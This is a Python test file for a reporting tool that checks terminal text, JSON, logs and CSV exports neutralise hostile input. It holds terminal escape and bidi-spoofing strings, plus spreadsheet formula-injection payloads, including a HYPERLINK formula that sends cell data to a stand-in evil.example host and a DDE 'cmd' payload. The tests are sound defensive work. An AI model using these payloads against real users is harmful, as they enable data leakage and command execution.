"""Output that stays safe (decisions.md): terminal text escaped, JSON exact, spreadsheet CSV
neutralised, both CSVs RFC 4180 (docs/reports.md "Terminal output" and "CSV")."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
import structlog
from hypothesis import given
from hypothesis import strategies as st

from slatrail.infra.commands.report import render_csv, spreadsheet_cell
from slatrail.infra.logging import configure_logging
from slatrail.infra.render import table, terminal_safe, terminal_text, to_json
from slatrail.projections.availability import Month
from slatrail.projections.report import monthly_reports
from tests.builders import CONTRACTS_TOML, contracts_from

# Written out here, not imported from infra.render, so a gap there fails these tests.
BIDI_CONTROLS = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
HOSTILE = "mallory\x1b[2J\x1b]0;pwned\x07\rok\u202eexe.txt\u2066x\u2069\x9b31m\x7f\x00\t\n"


def acted_on(text: str, *, allow: str = "") -> list[str]:
    """The characters of `text` a terminal would act on (or reorder the line for)."""
    return [
        c
        for c in text
        if c not in allow
        and (unicodedata.category(c) == "Cc" or c in BIDI_CONTROLS or c in "\u2028\u2029")
    ]


# -- terminal text ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[2J", "\\x1b[2J"),
        ("a\rb", "a\\rb"),
        ("bell\x07", "bell\\x07"),
        ("line\nbreak\ttab", "line\\nbreak\\ttab"),
        ("nul\x00 del\x7f csi\x9b nel\x85", "nul\\x00 del\\x7f csi\\x9b nel\\x85"),
        ("\u202egnp.exe", "\\u202egnp.exe"),
        (
            "\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d",
            "\\u2066\\u2067\\u2068\\u2069\\u202a\\u202b\\u202c\\u202d",
        ),
        ("\u200e\u200f\u061c \u2028\u2029", "\\u200e\\u200f\\u061c \\u2028\\u2029"),
        ('王芳 — café ✓ 日志 "quoted" \\x1b', '王芳 — café ✓ 日志 "quoted" \\x1b'),
        (None, ""),
        (42, "42"),
    ],
)
def test_terminal_safe_shows_every_control_character_as_a_visible_escape(
    raw: Any, shown: str
) -> None:
    assert terminal_safe(raw) == shown


@given(st.text())
def test_no_text_reaches_the_terminal_with_a_character_it_acts_on(text: str) -> None:
    safe = terminal_safe(text)
    assert acted_on(safe) == []
    if not acted_on(text):
        assert safe == text  # nothing else is touched
    assert acted_on(terminal_text(text), allow="\n") == []


def test_a_table_cell_cannot_break_the_table_or_drive_the_terminal() -> None:
    rendered = table(["actor", "title"], [[HOSTILE, "fine"], ["li.wei", HOSTILE]])
    lines = rendered.split("\n")
    assert len(lines) == 4  # header, rule, two rows: the \n and \r in cells stay inside them
    assert acted_on(rendered, allow="\n") == []
    assert "mallory\\x1b[2J\\x1b]0;pwned\\x07\\rok\\u202eexe.txt" in lines[2]


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(),
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
        max_leaves=20,
    )
)
def test_json_output_is_exact_and_holds_no_raw_control_character(value: Any) -> None:
    text = to_json(value)
    assert json.loads(text) == value
    assert acted_on(text, allow="\n") == []  # the newlines of the indentation only


def test_json_output_keeps_the_hostile_string_exactly() -> None:
    text = to_json({"actor": HOSTILE})
    assert json.loads(text) == {"actor": HOSTILE}
    assert "\\u202e" in text and "\\u001b[2J" in text and "\\u009b" in text


# -- report --format csv: for spreadsheets -----------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("-", "'-"),
        ("-inf", "'-inf"),
        (-12, "-12"),
        (-0.5, "-0.5"),
        (-1e-06, "-1e-06"),
        ("-12.25", "-12.25"),
        (99.95, "99.95"),
        (0, "0"),
        (True, "True"),
        (None, ""),
        ("acme-rtc", "acme-rtc"),
        ("Europe/Berlin", "Europe/Berlin"),
        ("a=b", "a=b"),
    ],
)
def test_a_spreadsheet_cell_never_starts_a_formula_but_numbers_stay_numbers(
    value: Any, cell: str
) -> None:
    assert spreadsheet_cell(value) == cell


FORMULA_CUSTOMERS = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': "gold",
    "+cmd|' /C calc'!A0": "gold",
    "-2+3": "gold",
    "@SUM(1+1)*cmd|' /C calc'!A0": "gold",
    "\t=1+1": "gold",
    '\r=1+1, "quoted"\nline': "gold",
}


def _toml_key(name: str) -> str:
    return json.dumps(name)  # a TOML basic string is a JSON string for these characters


def test_the_report_csv_neutralises_formulas_and_is_rfc_4180() -> None:
    extra = "".join(f"\n[customers.{_toml_key(n)}]\ntier = {json.dumps(t)}\n"
                    for n, t in FORMULA_CUSTOMERS.items())  # fmt: skip
    contracts = contracts_from(CONTRACTS_TOML + extra)
    reports = monthly_reports([], contracts, [Month(2026, 3)], datetime(2026, 4, 2, tzinfo=UTC))
    text = render_csv(reports)
    # CRLF after every record; no bare CR or LF outside a quoted field
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len(rows) == 1 + len(reports)
    header, *body = rows
    assert all(len(row) == len(header) for row in body)
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
                float(cell)  # only a number may start so
    customers = {row[header.index("customer")] for row in body}
    assert {"'" + name for name in FORMULA_CUSTOMERS} <= customers
    assert {"acme", "dayco"} <= customers  # ordinary names as they are
    assert "incidents" in header and body[0][header.index("incidents")] == "0"


def test_the_report_csv_writes_a_negative_number_as_a_number() -> None:
    contracts = contracts_from()
    (report,) = monthly_reports(
        [], contracts, [Month(2026, 3)], datetime(2026, 4, 2, tzinfo=UTC), customer="acme"
    )
    report["mtta_s"] = -90.5  # never negative in a real report: the rule is about any number
    (header, row) = list(csv.reader(io.StringIO(render_csv([report]), newline="")))
    assert row[header.index("mtta_s")] == "-90.5"
    assert row[header.index("mttr_s")] == ""  # null is an empty cell


# -- logs on a terminal -------------------------------------------------------------------------


@pytest.fixture
def restore_logging() -> Iterator[None]:
    yield
    structlog.reset_defaults()


@pytest.mark.parametrize("fmt", ["console", "json"])
def test_a_log_line_cannot_drive_the_terminal_either(
    fmt: str, capsys: pytest.CaptureFixture[str], restore_logging: None
) -> None:
    """structlog's console renderer shows a string with anything unprintable as its `repr`, and
    the JSON renderer escapes all non-ASCII: log values need no escaping of ours (which would
    double the backslashes). This guards the logging set-up against a renderer that would not."""
    configure_logging("info", fmt)
    structlog.get_logger("slatrail.ingest").warning(
        "message_rejected", message_id=HOSTILE, reason=f"bad {HOSTILE}", line=3
    )
    err = capsys.readouterr().err
    assert err.count("\n") == 1  # one line: the \n in the values did not make another
    assert acted_on(err, allow="\n") == []
    if fmt == "console":
        assert "mallory\\x1b[2J" in err and "\\\\x1b" not in err
    else:
        assert json.loads(err)["message_id"] == HOSTILE  # JSON logs: exact
